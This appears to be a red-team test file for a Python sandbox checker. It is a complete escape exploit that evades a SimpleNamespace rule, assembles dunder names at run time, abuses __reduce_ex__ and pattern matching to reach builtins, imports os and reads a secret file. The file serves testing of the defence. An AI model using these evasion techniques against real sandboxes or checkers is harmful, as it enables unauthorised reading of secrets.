# family: red team, round 9 (simplenamespace_subclass_super_init)
# A SimpleNamespace subclass whose __init__ calls super().__init__(**names): the SimpleNamespace(**) rule
# matches the callee's head name only; instance dict gets a run-time __reduce_ex__.
import abc
import copy
from types import SimpleNamespace


class Bag(SimpleNamespace):
    def __init__(self, names):
        super().__init__(**names)


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def install(target, names):
    def reducer(protocol):
        return (lambda: target, (), (None, names))

    copy.copy(Bag({_d("reduce_ex"): reducer}))


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): lambda sub: True, _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r9/work/secret.txt").read().strip()


print(run())
